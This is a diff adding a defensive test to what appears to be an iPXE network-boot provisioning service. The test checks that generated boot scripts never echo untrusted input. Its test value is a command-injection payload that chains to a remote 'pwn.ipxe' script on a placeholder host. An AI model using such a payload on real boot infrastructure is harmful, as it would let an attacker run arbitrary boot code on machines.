@@ -150,4 +150,26 @@ describe('boot app', () => {
     assert.equal((await app.inject({ url: '/assets/escape' })).json().error.code, 'ERR_PATH_TRAVERSAL')
     assert.equal((await app.inject({ url: '/assets/missing.efi' })).json().error.code, 'ERR_ASSET_NOT_FOUND')
   })
+
+  test('no text from an agent, a URL parameter or the inventory reaches a script, in any state', async () => {
+    const evil = 'x ; chain http://192.0.2.66/pwn.ipxe ; echo'
+    const q = new URLSearchParams({ mac: '52:54:00:77:00:66', uuid: evil, serial: evil, manufacturer: evil, product: evil, platform: evil, buildarch: evil })
+    const url = `/boot.ipxe?${q.toString()}`
+    const first = await app.inject({ url, remoteAddress: '10.77.0.166' })
+    assert.equal(first.statusCode, 200)
+    const machine = (await inv.machines.list()).find(m => m.macs.includes('52:54:00:77:00:66'))
+    assert.ok(machine)
+    await prov.discovery.accept(machine.id)
+    const task = await prov.discovery.wipe(machine.id, { method: 'fast', disks: [] })
+    // The agent's error becomes the state reason (error state): the next script must not carry it.
+    await prov.lifecycle.apply(machine.id, { type: 'wipeFailed', taskId: task.id, error: evil })
+    assert.ok((await inv.machines.get(machine.id)).stateReason?.includes('192.0.2.66'))
+    const bodies = [first.body, (await app.inject({ url, remoteAddress: '10.77.0.166' })).body]
+    await prov.discovery.maintenance(machine.id, true)
+    bodies.push((await app.inject({ url, remoteAddress: '10.77.0.166' })).body)
+    for (const body of bodies) {
+      assert.ok(!body.includes('192.0.2.66'), body)
+      assert.ok(!body.split('\n').some(l => l.startsWith('echo') && /;|&&|\|\|/.test(l)), body)
+    }
+  })
 })
